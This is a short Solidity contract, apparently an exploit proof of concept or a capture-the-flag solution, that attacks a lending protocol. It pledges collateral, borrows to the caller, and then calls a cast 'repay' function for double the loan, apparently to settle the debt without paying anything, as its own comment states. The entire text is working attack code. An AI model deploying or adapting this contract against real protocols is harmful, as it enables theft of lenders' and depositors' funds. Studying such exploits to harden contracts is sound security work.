interface Debts {
    function repay(address account, uint256 amount) external returns (uint256);
}

/// Borrows, and repays with nothing in the same moment.
contract Juggler {
    function juggle(Token gold, Lender house, uint256 loan) external {
        uint256 own = gold.balanceOf(address(this));
        gold.approve(address(house), own);
        house.pledge(own);
        house.borrow(loan, msg.sender);
        Debts(address(house)).repay(address(this), loan * 2);
    }
}
